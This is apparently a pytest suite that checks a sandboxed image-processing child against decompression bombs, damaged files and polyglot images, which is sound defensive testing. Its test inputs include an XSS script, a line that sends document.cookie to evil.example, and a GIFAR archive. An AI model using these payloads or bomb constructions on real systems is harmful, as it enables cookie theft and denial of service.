"""Hostile files through the child, as a worker would hand them over: each ends with a code, and the child lives on."""

import io
import random
import sys
import threading
import time
import zipfile
import zlib
from collections import Counter
from collections.abc import Callable, Iterator
from typing import Any

import pytest
from PIL import Image, PngImagePlugin, TiffImagePlugin

from processing import errors
from processing.base import Step
from processing.child import Child, ChildResult
from processing.formats import FORMATS, Output
from processing.limits import Limits
from processing.pipeline import Variant
from tests import images
from tests.pngs import chunk
from tests.processing import hostile

MEGABYTE = 1 << 20
MEMORY_BYTES = 1 << 30
RESIDENT_BYTES = 250 * MEGABYTE
"""What a child may come to hold over thousands of small hostile files: 60 MB are its own."""

SMALL = Variant((Step(operation="resize", params={"width": {"value": 30}}),), Output(format="png"))
STILL = Variant(SMALL.steps, Output(format="png", animated=False))
NEGATIVE = Variant((Step(operation="filter", params={"filter": "negate"}),), Output(format="jpeg"))
AT_FAULT = {"broken_image", "unsupported_format", "too_many_pixels", "side_too_long", "too_many_scans"}

pytestmark = pytest.mark.skipif(sys.platform != "linux", reason="the child is locked in on Linux alone")


@pytest.fixture(scope="module")
def child() -> Iterator[Child]:
    """One that is never replaced for its age."""
    made = Child(memory_bytes=MEMORY_BYTES, max_items=10**6)
    yield made
    made.close()


def run(child: Child, source: bytes, variant: Variant = SMALL, seconds: float = 20) -> ChildResult:
    return child.run(source, [variant], limits=Limits(), assets={}, seconds=seconds)


def end(child: Child, source: bytes, variant: Variant = SMALL, seconds: float = 20) -> str:
    """The code that the source ends with; `made` where there is a result."""
    try:
        outcome = run(child, source, variant, seconds).outcomes[0]
    except errors.ImageError as error:
        return error.code
    return outcome.error.code if outcome.error else "made"


# Small files that ask for much

REFUSED: dict[str, tuple[Callable[[], bytes], str]] = {
    "632 bytes of jpeg": (lambda: hostile.jpeg_claiming((13_300, 13_300)), "too_many_pixels"),
    "half a megabyte of png": (lambda: hostile.flat_png((13_300, 13_300)), "too_many_pixels"),
    "webp": (lambda: hostile.webp_claiming((13_000, 13_000)), "too_many_pixels"),
    "webp that moves": (lambda: hostile.webp_claiming((13_000, 13_000), 3), "too_many_pixels"),
    "avif": (lambda: hostile.avif_claiming((13_000, 13_000)), "too_many_pixels"),
    "tiff": (lambda: hostile.tiff_claiming((13_000, 13_000)), "too_many_pixels"),
    "tile of a tiff": (lambda: hostile.tiff_claiming((13_008, 13_008), tag=322), "too_many_pixels"),
    "bmp": (lambda: hostile.bmp_claiming((13_000, 13_000)), "too_many_pixels"),
    "gif": (lambda: hostile.gif((13_000, 13_000), 3), "too_many_pixels"),
    "apng": (lambda: hostile.apng((13_000, 13_000), 3), "too_many_pixels"),
    "line": (lambda: images.claiming((2**31 - 1, 1)), "side_too_long"),
    "3000 scans": (lambda: hostile.jpeg_with_scans((2000, 2000), 3000), "too_many_scans"),
    "20,000 frames": (lambda: hostile.gif((3000, 3000), 20_000), "too_many_frames"),
    "100,000 texts": (lambda: hostile.png_with(chunk(b"tEXt", b"k\0v") * 100_000), "too_many_chunks"),
    "half a million empty chunks": (lambda: hostile.png_with(chunk(b"IDAT") * 500_000), "too_many_chunks"),
    "texts that unfold": (lambda: hostile.png_with(*folded(b"zTXt", 900_000) * 100), "broken_image"),
    "a profile that unfolds": (lambda: hostile.png_with(*folded(b"iCCP", 50_000_000)), "broken_image"),
    "a comment in crumbs": (
        lambda: hostile.gif((9, 9), 1, before=b"!\xfe" + b"\1a" * 500_000 + b"\0"),
        "too_many_chunks",
    ),
}


def folded(kind: bytes, length: int) -> list[bytes]:
    """A chunk whose text has this length once it is unpacked."""
    return [chunk(kind, b"k\0\0" + zlib.compress(bytes(length)))]


@pytest.mark.parametrize(("make", "code"), REFUSED.values(), ids=REFUSED)
def test_a_bomb_is_refused_before_it_costs_anything(child: Child, make: Callable[[], bytes], code: str):
    source = make()
    run(child, images.encode(images.ramps((60, 40))))
    pid, started = child.pid, time.monotonic()
    assert end(child, source) == code
    assert time.monotonic() - started < 5
    assert child.pid == pid
    after = run(child, images.encode(images.ramps((60, 40))))
    assert after.max_rss_bytes < RESIDENT_BYTES


ENDURED: dict[str, Callable[[], bytes]] = {
    "20,000 frames": lambda: hostile.gif((3000, 3000), 20_000),
    "100 frames of webp": lambda: hostile.webp_claiming((1000, 1000), 100),
    "100 scans": lambda: hostile.jpeg_with_scans((1000, 1000), 100),
    "9,000 texts": lambda: hostile.png_with(chunk(b"tEXt", b"k\0v") * 9000),
    "20,000 pages": lambda: hostile.tiff_with_pages(20_000),
    "pages that lead back": lambda: hostile.tiff_with_pages(5, is_endless=True),
    "a hundred million pixels in one colour": lambda: hostile.flat_png((10_000, 10_000)),
}


@pytest.mark.parametrize("make", ENDURED.values(), ids=ENDURED)
def test_what_the_limits_let_through_is_done_in_seconds(make: Callable[[], bytes]):
    source, child = make(), Child(memory_bytes=MEMORY_BYTES)
    run(child, images.encode(images.ramps((60, 40))))
    try:
        started = time.monotonic()
        result = run(child, source, STILL)
        assert time.monotonic() - started < 10
        assert result.outcomes[0].encoded
        assert result.max_rss_bytes < MEMORY_BYTES
    finally:
        child.close()


# Files that end too early, and files that something happened to


@pytest.mark.parametrize("name", hostile.seeds())
def test_a_file_that_was_cut_off_is_a_picture_or_broken(child: Child, name: str):
    source = hostile.seeds()[name]
    run(child, source)
    pid = child.pid
    ends = [end(child, source[: len(source) * part // 20]) for part in range(20)]
    assert set(ends) <= {"made", "broken_image", "unsupported_format"}
    assert ends[0] == "unsupported_format"
    assert child.pid == pid


def test_two_thousand_damaged_files_cost_neither_the_worker_nor_its_child(child: Child):
    chance, seeds = random.Random(20_260), list(hostile.seeds().values())
    run(child, seeds[0])
    pid, ends, slowest, largest = child.pid, Counter[str](), 0.0, 0
    for number in range(2000):
        started = time.monotonic()
        try:
            result = run(child, hostile.mutate(seeds[number % len(seeds)], chance))
            ends["made"] += 1
            largest = max(largest, result.max_rss_bytes)
        except errors.ImageError as error:
            ends[error.code] += 1
        slowest = max(slowest, time.monotonic() - started)
    assert set(ends) <= {"made", *AT_FAULT}
    assert 200 < ends["made"] < 1800
    assert slowest < 5
    assert largest < RESIDENT_BYTES
    assert child.pid == pid


# Files that are two things at once

SCRIPT = b"<script>alert(document.domain)</script>"
CODE = b"*/=1;fetch('//evil.example/'+document.cookie)/*"


def archive() -> bytes:
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w") as made:
        made.writestr("META-INF/evil.class", b"\xca\xfe\xba\xbe evil")
    return buffer.getvalue()


FOREIGN = (SCRIPT, CODE, b"evil.class", b"PK\3\4")


def block(text: bytes) -> bytes:
    """The text as a GIF holds it, with its length before it and an end behind it."""
    return bytes([len(text)]) + text + b"\0"


def polyglots() -> dict[str, bytes]:
    """Pictures with something to run behind their end, in their comments and wherever else a format has room."""
    payload, picture = SCRIPT + CODE, images.ramps((60, 40))
    exif = Image.Exif()
    exif[TiffImagePlugin.IMAGEDESCRIPTION] = payload.decode()
    xmp = b"<x:xmpmeta xmlns:x='adobe:ns:meta/'>" + payload + b"</x:xmpmeta>"
    texts = PngImagePlugin.PngInfo()
    texts.add_text("Comment", payload.decode())
    texts.add_itxt("XML:com.adobe.xmp", xmp.decode())
    texts.add(b"prVt", payload)
    made = {
        "jpeg comment": images.encode(picture, "JPEG", comment=payload, exif=exif, xmp=xmp),
        "png text": images.encode(picture, pnginfo=texts, exif=exif),
        "gif comment": images.encode(picture, "GIF", comment=payload),
        "gif application": hostile.gif((60, 40), 1, before=b"!\xff\x0bXMP DataXMP" + block(payload)),
        "webp": images.encode(picture, "WEBP", exif=exif, xmp=xmp),
        "avif": images.encode(picture, "AVIF", exif=exif, xmp=xmp),
        "tiff": images.encode(picture, "TIFF", description=payload.decode(), exif=exif),
        "gifar": hostile.gif((60, 40), 1) + archive(),
        # The screen is as wide as the beginning of a comment says.
        "gif that is a script": b"GIF89a/*" + hostile.gif((60, 40), 1)[8:-1] + b"!\xfe" + block(CODE) + b";",
    }
    for name, source in hostile.seeds().items():
        made[f"behind {name}"] = source + SCRIPT + CODE + archive()
    return made


@pytest.mark.parametrize("form", [form.name for form in FORMATS if form.writes])
def test_results_hold_nothing_of_what_was_hidden_in_their_source(child: Child, form: str):
    for name, source in polyglots().items():
        assert any(mark in source for mark in FOREIGN), name
        output: dict[str, Any] = {"format": form, "profile": "source"}
        outcome = run(child, source, Variant((), Output(**output))).outcomes[0]
        assert outcome.encoded, name
        assert not [mark for mark in FOREIGN if mark in outcome.encoded.data], name


@pytest.mark.parametrize("text", [SCRIPT, CODE, archive(), b"%PDF-1.7\n%\xff\xd8\xff", b"#!/bin/sh\nexit 0\n"])
def test_a_document_with_a_picture_behind_it_is_no_picture(child: Child, text: bytes):
    for source in hostile.seeds().values():
        assert end(child, text + source) == "unsupported_format"


# Good pictures beside them


def bombs() -> list[tuple[bytes, Variant, float, str]]:
    """What a batch may meet among its pictures: source, what is to be done, seconds that it has, and how it ends."""
    return [
        (hostile.flat_png((13_300, 13_300)), SMALL, 20, "too_many_pixels"),
        (hostile.flat_png((6000, 6000)), NEGATIVE, 20, "out_of_memory"),
        (hostile.jpeg_with_scans((3000, 3000), 100), SMALL, 0.2, "timeout"),
        (hostile.seeds()["jpeg"][:400], SMALL, 20, "broken_image"),
    ]


def test_good_pictures_go_on_beside_bombs_on_two_slots():
    good = [images.encode(images.noise((600, 400), seed=seed), "JPEG") for seed in range(4)]
    ends: dict[int, list[str]] = {0: [], 1: []}
    expected: list[list[str]] = [[], []]

    def work(slot: int) -> None:
        child = Child(memory_bytes=100 * MEGABYTE)
        try:
            for number, (source, variant, seconds, _) in enumerate(bombs()[slot::2] * 2):
                ends[slot] += [end(child, good[(number + turn) % 4]) for turn in range(10)]
                ends[slot].append(end(child, source, variant, seconds))
            ends[slot].append(end(child, good[0]))
        finally:
            child.close()

    threads = [threading.Thread(target=work, args=(slot,)) for slot in ends]
    for thread in threads:
        thread.start()
    for thread in threads:
        thread.join()
    for slot, codes in ends.items():
        for _, _, _, code in bombs()[slot::2] * 2:
            expected[slot] += [*["made"] * 10, code]
        assert codes == [*expected[slot], "made"]
